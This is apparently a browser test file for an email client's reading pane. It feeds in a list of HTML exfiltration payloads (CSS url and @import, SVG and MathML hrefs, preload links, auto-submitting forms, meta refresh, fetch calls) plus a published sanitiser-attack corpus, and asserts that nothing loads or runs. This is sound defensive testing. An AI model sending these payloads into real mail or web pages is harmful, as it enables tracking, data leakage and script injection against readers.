// All public mail and 223 published attacks, read in the real reading pane: nothing is asked for, nothing runs, nothing goes elsewhere.
import { useEffect, useState } from 'react';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { commands } from 'vitest/browser';
import type { MessageId } from '../../../src-shared/mail/ids.ts';
import { ReadingPane } from '../../../src-renderer/features/reading-pane/ReadingPane.tsx';
import { sanitizeForReading } from '../../../src-renderer/sanitize/sanitize.ts';
import { absentReason, corpusMail, hasCorpora, type CorpusName } from '../corpus.ts';
import { useFreshStore } from '../store/support.ts';
import { draw, storeLetter, undraw, until } from './harness.tsx';

useFreshStore();
afterEach(undraw);
beforeAll(() => commands.startWatching());
afterAll(() => commands.stopWatching());

const names: readonly CorpusName[] = [
  ...(['spamassassin', 'mime4j', 'ruby-mail', 'james', 'php-mime-mail-parser'] as const),
  ...(['nodemailer-mailparser', 'postal-mime', 'tika'] as const),
];
/** A whole collection, letter by letter, on a machine busy with other tests. */
const patienceMs = 300_000;

/** null until a pane stands there: nothing is drawn before the options are read. */
let show: ((id: MessageId) => void) | null = null;

/** One pane, as a person has it who walks down a list. */
function Walk() {
  const [id, setId] = useState<MessageId | null>(null);
  useEffect(() => {
    show = setId;
    return () => {
      show = null;
    };
  }, []);
  return <ReadingPane messageId={id} />;
}

/** Shows a letter and waits until its frame is whole; true when there was one. */
async function read(raw: Uint8Array): Promise<boolean> {
  const id = await storeLetter(raw);
  const showNext = await until(() => show);
  const before = document.querySelector('iframe')?.contentDocument ?? null;
  showNext(id);
  return until(() => {
    const frame = document.querySelector<HTMLIFrameElement>('iframe');
    const inside = frame?.contentDocument;
    if (document.querySelector('[aria-busy]')) return false;
    if (!frame && document.querySelector('article')) return true;
    return inside?.URL === 'about:srcdoc' && inside !== before && inside.readyState === 'complete';
  });
}

const letterOf = (html: string) =>
  new TextEncoder().encode(
    `From: Lin <lin@example.org>\r\nTo: me@example.tw\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}`,
  );

/** What a CSS, a link, a picture or a frame could ask with; `HOME` is where it would be noticed. */
const exfiltrations = [
  '<style>@import "HOME/1";@import url(HOME/2);</style>',
  '<style>@font-face{font-family:x;src:url(HOME/3)}body{font-family:x}</style>x',
  '<style>body{background:url(HOME/4)}p{background:image-set(url(HOME/5) 1x,"HOME/6" 2x)}</style><p>x',
  '<p style="background:-webkit-image-set(url(HOME/7) 1x)">x</p>',
  '<style>a:visited{background:url(HOME/8)}a:link{background:url(HOME/9)}</style><a href="HOME/v">x</a>',
  '<style>input[value^=a]{background:url(HOME/10)}*{cursor:url(HOME/11),auto}</style><input value=a>',
  '<style>p{mask:url(HOME/12);filter:url(HOME/13#f);clip-path:url(HOME/14#c);shape-outside:url(HOME/15);border-image:url(HOME/16) 1}</style><p>x',
  '<style>p::before{content:url(HOME/17)}li{list-style:url(HOME/18)}</style><p>x<ul><li>y</ul>',
  '<style>:root{--a:url(HOME/19)}p{background:var(--a)}@property --b{syntax:"<url>";inherits:true;initial-value:url(HOME/20)}</style><p>x',
  '<style>@namespace url(HOME/21);@media all{@supports(display:block){@layer a{p{background:url(HOME/22)}}}}@container(width>0){p{background:url(HOME/23)}}</style><p>x',
  '<style>p{background:u\\72l(HOME/24)}p{background:\\75 rl(HOME/25)}p{background:src("HOME/26")}</style><p>x',
  '<style><!-- p{background:url(HOME/27)} --></style><p>x',
  '<svg><image href="HOME/28"/><image xlink:href="HOME/29"/><use href="HOME/30#x"/><feImage href="HOME/31"/><style>*{background:url(HOME/32)}</style><script href="HOME/33"/></svg>',
  '<math href="HOME/34"><mtext><img src="HOME/35"><mglyph><style><img src="HOME/36">',
  '<link rel=preload as=image href="HOME/37"><link rel=prefetch href="HOME/38"><link rel=dns-prefetch href="HOME/39"><link rel=preconnect href="HOME/40"><link rel=stylesheet href="HOME/41"><link rel=icon href="HOME/42"><link rel=modulepreload href="HOME/43">',
  '<table background="HOME/44"><tr background="HOME/45"><td background="HOME/46">x</table><body background="HOME/47">',
  '<img srcset="HOME/48 1x" sizes="1px"><picture><source srcset="HOME/49"><img src="HOME/50"></picture>',
  '<video poster="HOME/51" src="HOME/52"><source src="HOME/53"><track src="HOME/54"></video><audio src="HOME/55" autoplay></audio>',
  '<iframe src="HOME/56"></iframe><object data="HOME/57"></object><embed src="HOME/58"><frameset><frame src="HOME/59"></frameset><portal src="HOME/60"></portal><fencedframe></fencedframe>',
  '<meta http-equiv=refresh content="0;url=HOME/61"><meta http-equiv=Link content="<HOME/62>;rel=preload;as=image">',
  '<base href="HOME/"><img src="63">',
  '<form action="HOME/64" method=post><input autofocus onfocus="this.form.submit()" name=a value=b><button autofocus type=submit>x</button><input type=image src="HOME/65"></form><select autofocus></select>',
  '<a href="HOME/66" ping="HOME/67">x</a><a href="HOME/68" rel="prerender">y</a>',
  '<bgsound src="HOME/69"><applet code="HOME/70"><isindex action="HOME/71"><input type=image src="HOME/72"><image src="HOME/73">',
  '<img lowsrc="HOME/74" dynsrc="HOME/75" longdesc="HOME/76"><blockquote cite="HOME/77">x</blockquote>',
  '<div style="background:url(\'HOME/78\')" onpointerover="fetch(\'HOME/79\')">x</div><script>fetch("HOME/80")</script>',
  '<template><img src="HOME/81"></template><noscript><img src="HOME/82"></noscript><xmp><img src="HOME/83"></xmp><noembed><img src="HOME/84"></noembed>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["HOME/85"]}]}</script>',
  '<p style="behavior:url(HOME/86);-moz-binding:url(HOME/87);src:url(HOME/88)">x</p>',
];

test('what watches here sees a picture that is asked for, and a script that is held back', async () => {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-same-origin');
  frame.srcdoc =
    '<img src="http://127.0.0.1:9/seen.gif" onerror="alert(1)"><script>alert(2)</script>';
  document.body.append(frame);
  await until(async () => {
    const { requests, scripts } = await commands.misdeeds();
    return requests.some((url) => url.includes('seen.gif')) && scripts.length > 0;
  });
  frame.remove();
  await commands.stopWatching();
  await commands.startWatching();
});

test('CSS, preload hints, SVG, MathML, forms and frames that would call home do not', async () => {
  await draw(<Walk />);
  for (const attack of exfiltrations) {
    await read(letterOf(`<p>Hello</p>${attack.replaceAll('HOME', 'http://127.0.0.1:9')}`));
    const inside = document.querySelector('iframe')?.contentDocument;
    expect(inside?.body.textContent, attack).toContain('Hello');
    expect(inside?.activeElement?.localName, attack).toBe('body');
    expect(inside?.querySelector('form,input,button,select,textarea'), attack).toBeNull();
  }
  await rest();
  expect(await commands.misdeeds()).toEqual({ requests: [], navigations: [], scripts: [] });
});

test('none of them does by the sanitiser alone, with no policy and no sandbox around it', async () => {
  const policy = { inlineImages: new Map<string, string>(), allowExternal: false };
  const frames = exfiltrations.map((attack) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = sanitizeForReading(attack.replaceAll('HOME', 'http://127.0.0.1:9'), policy).html;
    document.body.append(frame);
    return frame;
  });
  await rest();
  for (const frame of frames) frame.remove();
  expect(await commands.misdeeds()).toEqual({ requests: [], navigations: [], scripts: [] });
});

describe.skipIf(!hasCorpora)(`mail of the world${hasCorpora ? '' : ` (${absentReason})`}`, () => {
  test(
    'the attacks on sanitisers',
    async () => {
      const text = await commands.corpusText('dompurify', 'expect.json');
      const payloads = JSON.parse(text) as { readonly payload: string }[];
      await draw(<Walk />);
      for (const { payload } of payloads) await read(letterOf(payload));
      await rest();
      expect(await commands.misdeeds()).toEqual({ requests: [], navigations: [], scripts: [] });
    },
    patienceMs,
  );

  test.each(names)(
    '%s',
    async (name) => {
      const letters = (await corpusMail(name)).filter(({ raw }) => hasHtml(raw));
      await draw(<Walk />);
      let shown = 0;
      for (const { raw } of letters) if (await read(raw)) shown += 1;
      await rest();
      console.info(name, `${shown} letters with HTML read`);
      expect(shown).toBe(letters.length);
      expect(await commands.misdeeds()).toEqual({ requests: [], navigations: [], scripts: [] });
    },
    patienceMs,
  );
});

/** Text alone loads nothing; reading it too would take three times as long. */
function hasHtml(raw: Uint8Array): boolean {
  return /text\/html|<html/i.test(new TextDecoder('latin1').decode(raw));
}

/** Time for late loads, and for the watcher's word to cross. */
async function rest(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 300));
}
